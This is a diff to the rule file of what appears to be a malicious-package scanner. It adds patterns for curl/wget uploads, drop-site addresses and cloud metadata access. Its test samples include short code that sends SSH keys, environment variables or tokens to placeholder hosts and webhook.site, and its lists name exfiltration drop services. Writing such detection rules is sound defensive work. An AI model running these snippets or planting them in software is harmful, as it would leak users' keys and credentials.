@@ -115,13 +115,26 @@ _RUST_SENDS = (
 
 # Where stolen data is dropped: anonymous, free, and gone tomorrow.
 _DROP = (
-    r"/(?i)^https?:..(?:[\w-]+\.)*(?:discord(?:app)?\.com.api.webhooks|hooks\.slack\.com|api\.telegram\.org"
-    r"|webhook\.site|requestbin\.\w+|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator\.net"
-    r"|oastify\.com|oast\.\w+|interact\.sh|canarytokens\.com|beeceptor\.com|hookbin\.com|requestcatcher\.com"
-    r"|dnslog\.cn|ceye\.io|transfer\.sh|file\.io|gofile\.io|anonfiles?\.com|bashupload\.com|0x0\.st|temp\.sh"
-    r"|catbox\.moe|pastebin\.com.api|paste\.ee|hastebin\.com|trycloudflare\.com|serveo\.net|loca\.lt|bit\.ly|workers\.dev.*collect)/"
+    r"/(?i)^https?:..(?:[\w-]+\.)*(?:discord(?:app)?\.com.api.webhooks"
+    r"|hooks\.slack\.com|api\.telegram\.org"
+    r"|webhook\.site|requestbin\.\w+|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)"
+    r"|burpcollaborator\.net"
+    r"|oastify\.com|oast\.\w+|interact\.sh|ca"
+    r"narytokens\.com|beeceptor\.com|hookbin\.com|requestcatcher\.com"
+    r"|dnslog\.cn|ceye\.io|transfer\.sh|file"
+    r"\.io|gofile\.io|anonfiles?\.com|bashupload\.com|0x0\.st|temp\.sh"
+    r"|catbox\.moe|pastebin\.com.api|paste"
+    r"\.ee|hastebin\.com|trycloudflare\.com|s"
+    r"erveo\.net|loca\.lt|bit\.ly|workers\.dev.*collect)/"
 )
-_MADE = "built & ~env | built & ~host | built & ~secret-file | built & ~encoded"
+_TOLD = (
+    r"/\b(?:curl|wget|Invoke-WebRequest|iwr)\b.*(?:[?&][\w-]+=|\s(?:-d"
+    r"|--data\S*|--post-data|-F)\s?.*|https?:\S+\/)\0/"
+)
+_MADE = (
+    "built & ~env | built & ~host | built & ~secret-file | built & ~encoded"
+    " | ~env & ~encoded | ~host & ~encoded"
+)
 
 RULES = (
     Rule(
@@ -133,7 +146,8 @@ RULES = (
         200,
         "Keys, tokens, the clipboard, the screen or keystrokes are sent away",
         "What is read is the user's own; the package has no business with it.",
-        "Do not run it; whoever did should change every key and password it could read.",
+        "Do not run it; whoever did should change every key and password it could "
+        "read.",
         {
             "python": (
                 *(
@@ -176,22 +190,27 @@ RULES = (
             "rust": (
                 "fn main() {\n"
                 '    let key = std::fs::read_to_string("/root/.ssh/id_rsa").unwrap();\n'
-                '    reqwest::blocking::Client::new().post("https://a.invalid").body(key).send();\n}\n',
+                "    reqwest::blocking::Client::ne"
+                'w().post("https://a.invalid").body(key).send();\n}\n',
             ),
         },
         good={
             "python": (
-                "import requests\nrequests.post('https://a.invalid', data=open('a.csv').read())\n",
-                "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsign(key)\n",
+                "import requests\nrequests.post('https://a.invalid', "
+                "data=open('a.csv').read())\n",
+                "import os\nkey = open(os.path.exp"
+                "anduser('~/.ssh/id_rsa')).read()\nsign(key)\n",
             ),
             "javascript": (
                 "const fs = require('fs');\n"
-                "fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('a.csv') });\n",
+                "fetch('https://a.invalid', { method: 'POST', body: "
+                "fs.readFileSync('a.csv') });\n",
             ),
             "rust": (
                 "fn main() {\n"
                 '    let text = std::fs::read_to_string("a.csv").unwrap();\n'
-                '    reqwest::blocking::Client::new().post("https://a.invalid").body(text).send();\n}\n',
+                "    reqwest::blocking::Client::ne"
+                'w().post("https://a.invalid").body(text).send();\n}\n',
             ),
         },
     ),
@@ -204,9 +223,11 @@ RULES = (
         200,
         "The whole environment is sent away",
         "The environment of builds and servers holds tokens and passwords.",
-        "Do not run it; whoever did should change every secret that the environment held.",
+        "Do not run it; whoever did should change every secret that the environment "
+        "held.",
         {
-            "python": (*(f"{sends}(*: ~environment)" for sends in _PYTHON_SENDS),
+            "python": (
+                *(f"{sends}(*: ~environment)" for sends in _PYTHON_SENDS),
                 "requests.post(*: <os.environ>)",
                 "requests.post(json: <os.environ>)",
                 "httpx.post(*: <os.environ>)",
@@ -224,13 +245,15 @@ RULES = (
         },
         bad={
             "python": (
-                "import os, requests\nrequests.post('https://a.invalid', json=dict(os.environ))\n",
+                "import os, requests\nrequests.post('https://a.invalid', "
+                "json=dict(os.environ))\n",
                 "import os, json, urllib.request\n"
                 "data = json.dumps(dict(os.environ)).encode()\n"
                 "urllib.request.urlopen('https://a.invalid', data)\n",
             ),
             "javascript": (
-                "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n",
+                "fetch('https://a.invalid', { method: 'POST', body: "
+                "JSON.stringify(process.env) });\n",
                 "const https = require('https');\n"
                 "const req = https.request({ host: 'a.invalid', method: 'POST' });\n"
                 "req.write(JSON.stringify(process.env));\nreq.end();\n",
@@ -238,20 +261,24 @@ RULES = (
             "rust": (
                 "fn main() {\n"
                 "    let all: Vec<(String, String)> = std::env::vars().collect();\n"
-                '    reqwest::blocking::Client::new().post("https://a.invalid").json(&all).send();\n}\n',
+                "    reqwest::blocking::Client::ne"
+                'w().post("https://a.invalid").json(&all).send();\n}\n',
             ),
         },
         good={
             "python": (
                 "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ))\n",
                 "import os, requests\n"
-                "requests.get('https://a.invalid', headers={'x': os.environ['TOKEN']})\n",
+                "requests.get('https://a.invalid', headers={'x': "
+                "os.environ['TOKEN']})\n",
             ),
             "javascript": (
-                "require('child_process').spawn('ls', [], { env: { ...process.env } });\n",
+                "require('child_process').spawn('ls', [], { env: { ...process.env } "
+                "});\n",
             ),
             "rust": (
-                "fn main() { for (name, _) in std::env::vars() { println!(\"{}\", name); } }\n",
+                'fn main() { for (name, _) in std::env::vars() { println!("{}", '
+                "name); } }\n",
             ),
         },
     ),
@@ -284,8 +311,12 @@ RULES = (
             "javascript": ("const text = JSON.stringify(process.env);\n",),
         },
         good={
-            "python": ("import json, os\ntext = json.dumps({'home': os.environ['HOME']})\n",),
-            "javascript": ("const text = JSON.stringify({ home: process.env.HOME });\n",),
+            "python": (
+                "import json, os\ntext = json.dumps({'home': os.environ['HOME']})\n",
+            ),
+            "javascript": (
+                "const text = JSON.stringify({ home: process.env.HOME });\n",
+            ),
         },
     ),
     Rule(
@@ -296,7 +327,8 @@ RULES = (
         LIKELY,
         200,
         "Who and where the user is, or the environment, is sent away",
-        "Names of users and machines and variables tell an attacker where the package got to.",
+        "Names of users and machines and variables tell an attacker where the package "
+        "got to.",
         "Leave it out, or ask the user first.",
         {
             "python": (
@@ -330,8 +362,11 @@ RULES = (
                 "socket.socket().sendto(0: ~host | ~env)",
                 "smtplib.SMTP().sendmail(2: ~host | ~env)",
                 "smtplib.SMTP_SSL().sendmail(2: ~host | ~env)",
+                f"os.system(0: {_TOLD}; 0: ~host | ~env | ~secret-file)",
+                f"subprocess.*(0/args: {_TOLD}; 0/args: ~host | ~env | ~secret-file)",
                 r"requests.*(0/url: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
-                r"urllib.request.urlopen(0/url: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
+                r"urllib.request.urlopen(0/url: ~env & "
+                r"/^https?:..[^\0\/]+[\/?][^\0]*\0/)",
             ),
             "javascript": (
                 "fetch(0: built & ~host)",
@@ -363,6 +398,7 @@ RULES = (
                 "dgram.createSocket().send(0: ~host | ~env)",
                 "XMLHttpRequest().send(0: ~host | ~env)",
                 "WebSocket().send(0: ~host | ~env)",
+                f"child_process.*(0: {_TOLD}; 0: ~host | ~env | ~secret-file)",
                 r"fetch(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
                 r"https.get(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
                 r"axios.get(0: ~env & /^https?:..[^\0\/]+[\/?][^\0]*\0/)",
@@ -387,7 +423,8 @@ RULES = (
         bad={
             "python": (
                 "import socket, requests\n"
-                "requests.post('https://a.invalid', json={'name': socket.gethostname()})\n",
+                "requests.post('https://a.invalid', json={'name': "
+                "socket.gethostname()})\n",
                 "import getpass, urllib.request\n"
                 "urllib.request.urlopen('https://a.invalid/?' + getpass.getuser())\n",
                 "import os, requests\n"
@@ -408,11 +445,13 @@ RULES = (
         good={
             "python": (
                 "import os, requests\n"
-                "requests.get(os.environ['API'] + '/items', headers={'x': os.environ['KEY']})\n",
+                "requests.get(os.environ['API'] + '/items', headers={'x': "
+                "os.environ['KEY']})\n",
                 "import socket\nprint(socket.gethostname())\n",
             ),
             "javascript": (
-                "fetch(process.env.API + '/items', { headers: { x: process.env.KEY } });\n",
+                "fetch(process.env.API + '/items', { headers: { x: process.env.KEY } "
+                "});\n",
             ),
             "rust": (
                 'fn main() { println!("{}", std::env::var("HOME").unwrap()); }\n',
@@ -437,8 +476,10 @@ RULES = (
                 f"dns.resolver.resolve(0: {_MADE})",
                 f"dns.resolver.query(0: {_MADE})",
                 f"dns.resolver.Resolver().resolve(0: {_MADE})",
-                "os.system(0: built & /(?:nslookup|dig|host) /; 0: ~env | ~host | ~encoded)",
-                "subprocess.*(0/args: /(?:nslookup|dig|host) /; 0/args: ~env | ~host | ~encoded)",
+                "os.system(0: built & /(?:nslookup|dig|host) /; 0: ~env | ~host | "
+                "~encoded)",
+                "subprocess.*(0/args: /(?:nslookup|dig|host) /; 0/args: ~env | ~host "
+                "| ~encoded)",
             ),
             "javascript": (
                 f"dns.lookup(0: {_MADE})",
@@ -459,7 +500,8 @@ RULES = (
         bad={
             "python": (
                 "import os, socket\n"
-                "socket.gethostbyname(os.environ['TOKEN'].encode().hex() + '.a.invalid')\n",
+                "socket.gethostbyname(os.environ['TOKEN'].encode().hex() + "
+                "'.a.invalid')\n",
             ),
             "javascript": (
                 "const dns = require('dns');\n"
@@ -467,7 +509,8 @@ RULES = (
             ),
             "rust": (
                 "fn main() {\n"
-                '    let name = format!("{}.a.invalid", std::env::var("TOKEN").unwrap());\n'
+                '    let name = format!("{}.a.invalid", '
+                'std::env::var("TOKEN").unwrap());\n'
                 "    dns_lookup::lookup_host(&name);\n}\n",
             ),
         },
@@ -536,16 +579,22 @@ RULES = (
                 "requests.post('https://webhook.site/invalid', json={'a': text})\n",
             ),
             "javascript": (
-                "fetch('https://discord.com/api/webhooks/0/invalid', { method: 'POST' });\n",
+                "fetch('https://discord.com/api/webhooks/0/invalid', { method: 'POST' "
+                "});\n",
             ),
             "rust": (
-                'fn main() { ureq::post("https://webhook.site/invalid").send_string(&text); }\n',
+                'fn main() { ureq::post("https://w'
+                'ebhook.site/invalid").send_string(&text); }\n',
             ),
         },
         good={
-            "python": ("import requests\nrequests.post('https://a.invalid', json={})\n",),
+            "python": (
+                "import requests\nrequests.post('https://a.invalid', json={})\n",
+            ),
             "javascript": ("fetch('https://a.invalid', { method: 'POST' });\n",),
-            "rust": ('fn main() { ureq::post("https://a.invalid").send_string(&text); }\n',),
+            "rust": (
+                'fn main() { ureq::post("https://a.invalid").send_string(&text); }\n',
+            ),
         },
     ),
     Rule(
@@ -556,17 +605,22 @@ RULES = (
         UNSURE,
         200,
         "A request goes to a bare address, a shortener or a free top-level domain",
-        "Such addresses are cheap to get and to leave, and say nothing of who is behind them.",
+        "Such addresses are cheap to get and to leave, and say nothing of who is "
+        "behind them.",
         "Find out whose address it is.",
         {
             language: tuple(
                 f"{sends}({which}: /{address}/)"
                 for sends, which in calls
                 for address in (
-                    r"^https?:..(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|0\.0|169\.254)"
+                    r"^https?:..(?!127\.|10\.|192\.168\.|172\.(?:1[6-9]"
+                    r"|2\d|3[01])\.|0\.0|169\.254)"
                     r"\d{1,3}(?:\.\d{1,3}){3}(?:\W|$)"
-                    r"|^https?:..(?:bit\.ly|tinyurl\.com|is\.gd|rb\.gy|cutt\.ly|t\.ly|shorturl\.at|grabify\.link|iplogger\.\w+)\b"
-                    r"|^https?:..[\w.-]+\.(?:xyz|top|tk|ml|ga|cf|gq|click|icu|buzz|monster|quest|cyou|rest|sbs|zip|mov)(?:\W|$)",
+                    r"|^https?:..(?:bit\.ly|tinyurl"
+                    r"\.com|is\.gd|rb\.gy|cutt\.ly|t\.ly|shorturl\.at|grabify\.link"
+                    r"|iplogger\.\w+)\b"
+                    r"|^https?:..[\w.-]+\.(?:xyz|top|tk|ml|ga|cf|gq|click|icu|buzz"
+                    r"|monster|quest|cyou|rest|sbs|zip|mov)(?:\W|$)",
                 )
             )
             for language, calls in {
@@ -604,31 +658,76 @@ RULES = (
         },
     ),
     Rule(
+        "shady-link",
+        "exfiltration",
+        MALICE,
+        LOW,
+        UNSURE,
+        200,
+        "An address of a shortener, a drop or a free top-level domain stands in the "
+        "code",
+        "Such addresses are cheap to get and to leave, and say nothing of who is "
+        "behind them.",
+        "Find out whose address it is.",
+        dict.fromkeys(
+            ("python", "javascript", "rust"),
+            (
+                r"string /https?:..(?:[\w-]+\.)*(?:"
+                r"bit\.ly|tinyurl\.com|is\.gd|rb\.gy|cutt\.ly|grabify\.link"
+                r"|iplogger\.\w+|webhook\.site"
+                r"|requestbin\.\w+|pipedream\.net|b"
+                r"urpcollaborator\.net|oastify"
+                r"\.com|oast\.\w+|interact\.sh|transfer\.sh|anonfiles\.com"
+                r"|ngrok(?:-free)?\.(?:io|app)|discord(?:app)?\.com.api.webhooks"
+                r"|api\.telegram\.org.bot|pastebin\.com.raw|dnslog\.cn)(?:\W|$)/",
+                r"string /^https?:..[\w.-]+\.(?:xyz|top|tk|ml|ga|cf|gq|icu|buzz"
+                r"|monster|quest|cyou|sbs)(?:\W|$)/",
+            ),
+        ),
+        bad={
+            "python": ("ADDRESS = 'https://bit.ly/invalid'\n",),
+            "javascript": ("const address = 'https://webhook.site/invalid';\n",),
+            "rust": ('const ADDRESS: &str = "https://transfer.sh/invalid";\n',),
+        },
+        good={
+            "python": ("ADDRESS = 'https://a.invalid/'\n",),
+            "javascript": ("const address = 'https://a.invalid/';\n",),
+            "rust": ('const ADDRESS: &str = "https://a.invalid/";\n',),
+        },
+    ),
+    Rule(
         "cloud-metadata",
         "exfiltration",
         MALICE,
         MEDIUM,
-        UNSURE,
+        LIKELY,
         918,
         "The cloud's metadata service is asked",
         "It hands the credentials of the machine to whoever asks from inside.",
         "Use the provider's own library, which asks only where it must.",
         {
             "python": (
-                r"requests.*(0/url: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
-                r"httpx.*(0/url: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
-                r"urllib.request.*(0/url: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
+                r"requests.*(0/url: /169\.254\.169\.254|metadata\.google\.internal"
+                r"|169\.254\.170\.2/)",
+                r"httpx.*(0/url: /169\.254\.169\.254|metadata\.google\.internal"
+                r"|169\.254\.170\.2/)",
+                r"urllib.request.*(0/url: /169"
+                r"\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
             ),
             "javascript": (
-                r"fetch(0: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
-                r"axios.*(0: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
-                r"http.*(0: /169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2/)",
+                r"fetch(0: /169\.254\.169\.254|metadata\.google\.internal"
+                r"|169\.254\.170\.2/)",
+                r"axios.*(0: /169\.254\.169\.254|metadata\.google\.internal"
+                r"|169\.254\.170\.2/)",
+                r"http.*(0: /169\.254\.169\.254|metadata\.google\.internal"
+                r"|169\.254\.170\.2/)",
                 r"http.*(0.host: /169\.254\.169\.254|metadata\.google\.internal/)",
             ),
             "rust": (
                 r"ureq.get(0: /169\.254\.169\.254|metadata\.google\.internal/)",
                 r"reqwest.get(0: /169\.254\.169\.254|metadata\.google\.internal/)",
-                r"reqwest.blocking.get(0: /169\.254\.169\.254|metadata\.google\.internal/)",
+                r"reqwest.blocking.get(0: /169"
+                r"\.254\.169\.254|metadata\.google\.internal/)",
             ),
         },
         bad={
@@ -638,7 +737,8 @@ RULES = (
             ),
             "javascript": ("fetch('http://169.254.169.254/latest/meta-data/');\n",),
             "rust": (
-                'fn main() { ureq::get("http://169.254.169.254/latest/meta-data/").call(); }\n',
+                'fn main() { ureq::get("http://169'
+                '.254.169.254/latest/meta-data/").call(); }\n',
             ),
         },
         good={
@@ -656,7 +756,8 @@ RULES = (
         200,
         "The system's list of accounts or passwords is read",
         "Who has an account here is the first thing an intruder looks up.",
-        "Use the system's interface (`pwd`, `os.userInfo`) for the one account that matters.",
+        "Use the system's interface (`pwd`, `os.userInfo`) for the one account that "
+        "matters.",
         {
             "python": (
                 r"open(0/file: /etc\W(?:passwd|shadow|sudoers|master\.passwd)$/)",
